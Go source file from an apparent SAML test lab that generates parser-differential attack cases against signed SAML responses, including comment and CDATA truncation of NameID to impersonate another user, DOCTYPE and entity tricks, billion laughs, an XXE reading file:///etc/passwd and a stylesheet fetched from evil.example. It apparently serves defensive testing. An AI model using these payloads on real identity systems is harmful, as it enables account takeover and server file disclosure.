package attack

import (
	"encoding/binary"
	"strings"
	"unicode/utf16"

	"github.com/anteroom-id/anteroom/lab/idp"
)

// rewritten is the genuine message, its text changed after it was signed.
func rewritten(class, name, tries, cause string, change func(text string) string) Case {
	return Case{Class: class, Name: name, Tries: tries, Cause: cause, Kind: Response, Make: func(g *Generator) (Message, error) {
		e, err := g.genuine().Element()
		if err != nil {
			return Message{}, err
		}
		return written(change(e.String())), nil
	}}
}

// before puts text before the first place where a mark stands.
func before(mark, text string) func(string) string {
	return func(s string) string { return strings.Replace(s, mark, text+mark, 1) }
}

func replace(old, text string) func(string) string {
	return func(s string) string { return strings.Replace(s, old, text, 1) }
}

const (
	docType     = "a document type"
	instruction = "a processing instruction"
	section     = "a CDATA section"
	entity      = "an entity or reference that XML does not have"
	character   = "a character that XML, or our part of it, does not have"
	namespace   = "a namespace that readers understand differently"
	repeated    = "an attribute that is there twice"
	malformed   = "no well-formed XML"
	trailing    = "something behind the root element"
)

// parsing are the attacks on readers that differ, S4.
func parsing() []Case {
	p := func(name, tries, cause string, change func(string) string) Case {
		return rewritten("S4", name, tries, cause, change)
	}
	return []Case{
		p("comment in NameID", "a comment cuts the name short (CVE-2017-11427)", comment, replace("mallory@acme.example</saml:NameID>", "ann@acme.example<!---->.evil.example</saml:NameID>")),
		p("comment in an attribute's value", "a comment cuts the address short", comment, before(".example</saml:AttributeValue>", "<!-- -->")),
		p("comment before the root", "a comment where no element is", comment, func(s string) string { return "<!-- x -->" + s }),
		p("processing instruction in NameID", "an instruction cuts the name short (CVE-2017-11428)", instruction, before("@acme.example</saml:NameID>", "<?x y?>")),
		p("stylesheet", "an instruction before the root", instruction, func(s string) string { return `<?xml-stylesheet href="https://evil.example/x.xsl"?>` + s }),
		p("CDATA in NameID", "a section that one reader takes for text", section, replace("mallory@acme.example</saml:NameID>", "<![CDATA[ann]]>@acme.example</saml:NameID>")),
		p("CDATA in an attribute's value", "a section that hides a tag", section, replace("mallory@acme.example</saml:AttributeValue>", "<![CDATA[<b>]]>ann@acme.example</saml:AttributeValue>")),
		p("DOCTYPE", "a document type that declares nothing", docType, func(s string) string { return "<!DOCTYPE Response>" + s }),
		p("DOCTYPE with ATTLIST", "attributes that only one reader sees (CVE-2025-25291)", docType, func(s string) string {
			return `<!DOCTYPE r [<!ATTLIST Assertion ID ID #FIXED "x">]>` + s
		}),
		p("entity", "an entity of the message's own (CVE-2025-25292)", docType, func(s string) string {
			return `<!DOCTYPE r [<!ENTITY a "ann">]>` + strings.Replace(s, "mallory@acme.example</saml:NameID>", "&a;@acme.example</saml:NameID>", 1)
		}),
		p("billion laughs", "entities of entities", docType, func(s string) string {
			return `<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>` + s
		}),
		p("external entity", "a file of the server's", docType, func(s string) string { return `<!DOCTYPE r [<!ENTITY f SYSTEM "file:///etc/passwd">]>` + s }),
		p("unknown entity", "an entity that nobody declared", entity, replace("mallory@acme.example</saml:NameID>", "&nbsp;ann@acme.example</saml:NameID>")),
		p("character reference to NUL", "a reference to a character that XML does not have", entity, before("mallory@acme.example</saml:NameID>", "&#0;")),
		p("NUL", "a byte at which some readers stop", character, before("@acme.example</saml:NameID>", "\x00")),
		p("control character", "a character that hides the rest of a line", character, before("@acme.example</saml:NameID>", "\x1b")),
		p("half a character", "bytes that are no UTF-8", character, before("@acme.example</saml:NameID>", "\xc3")),
		p("byte order mark", "a mark before the root, which shifts what is read", character, func(s string) string { return "\ufeff" + s }),
		p("UTF-16", "the message in another encoding", character, inUTF16),
		p("label UTF-16", "a label that says another encoding than the message has", character, func(s string) string { return `<?xml version="1.0" encoding="UTF-16"?>` + s }),
		p("label UTF-7", "an encoding in which tags can hide", character, func(s string) string { return `<?xml version="1.0" encoding="UTF-7"?>` + s }),
		p("two roots", "a second response behind the first", trailing, func(s string) string { return s + s }),
		p("text behind", "text behind the root", trailing, func(s string) string { return s + "x" }),
		p("xml:id", "an id that only one reader knows", namespace, replace("<saml:Assertion ", `<saml:Assertion xml:id="_x" `)),
		p("ID twice", "two ids, of which each reader takes one", repeated, replace(` Version="2.0"><saml:Issuer`, ` Version="2.0" ID="_evil"><saml:Issuer`)),
		p("id in a prefix", "an ID that a namespace makes another one", namespace, replace(` Version="2.0"><saml:Issuer`, ` Version="2.0" saml:ID="_evil"><saml:Issuer`)),
		p("relative namespace", "a namespace that cannot be written canonically (CVE-2025-66568)", namespace, replace("<saml:Subject>", `<saml:Subject xmlns:x="./x">`)),
		p("unbound prefix", "a prefix that stands for nothing", namespace, replace("<saml:Subject>", "<saml:Subject><x:y></x:y>")),
		p("prefix xml redefined", "a prefix that is taken already", namespace, replace("<saml:Subject>", `<saml:Subject xmlns:xml="urn:x">`)),
		p("prefix xmlns", "a prefix that may not be declared", namespace, replace("<saml:Subject>", `<saml:Subject xmlns:xmlns="urn:x">`)),
		p("name of colons", "a name that Go once wrote otherwise than it read (CVE-2020-29509)", malformed, replace("<saml:Subject>", "<saml:Subject><::x></::x>")),
		p("attribute of colons", "an attribute that Go once wrote otherwise than it read (CVE-2020-29511)", malformed, replace("<saml:Subject>", `<saml:Subject :="x">`)),
		p("tag that is never closed", "a message that ends early", malformed, func(s string) string { return s[:len(s)-10] }),
		p("tags crossed", "an element that ends in another", malformed, replace("</saml:NameID>", "</saml:Subject>")),
		p("attribute without quotes", "what browsers would read", malformed, replace("<saml:Subject>", "<saml:Subject a=b>")),
		{Class: "S4", Name: "base64 twice", Tries: "a message that is decoded once too often", Cause: malformed, Kind: Response, Make: func(g *Generator) (Message, error) {
			m, err := plainResponse(g)
			return written(m.Response), err
		}},
		{Class: "S4", Name: "no base64", Tries: "a message as it is", Cause: "a form field that is not base64", Kind: Response, Make: func(g *Generator) (Message, error) {
			e, err := g.honest().Element()
			if err != nil {
				return Message{}, err
			}
			return Message{Response: e.String()}, nil
		}},
		{Class: "S4", Name: "base64 with more", Tries: "characters that some decoders pass over", Cause: "a form field that is not base64", Kind: Response, Make: func(g *Generator) (Message, error) {
			m, err := plainResponse(g)
			return Message{Response: m.Response[:40] + "-_*" + m.Response[40:]}, err
		}},
		{Class: "S4", Name: "nothing", Tries: "no message", Cause: "a form field that is missing or twice there", Kind: Response, Make: func(*Generator) (Message, error) { return Message{}, nil }},
		{Class: "S4", Name: "a request", Tries: "a message of another kind", Cause: strangeRoot, Kind: Response, Make: func(g *Generator) (Message, error) {
			e, err := g.honest().Element()
			if err != nil {
				return Message{}, err
			}
			e.Local = "AuthnRequest"
			return Message{Response: idp.Encode(e.String())}, nil
		}},
	}
}

func inUTF16(s string) string {
	out := []byte{0xff, 0xfe}
	for _, unit := range utf16.Encode([]rune(s)) {
		out = binary.LittleEndian.AppendUint16(out, unit)
	}
	return string(out)
}
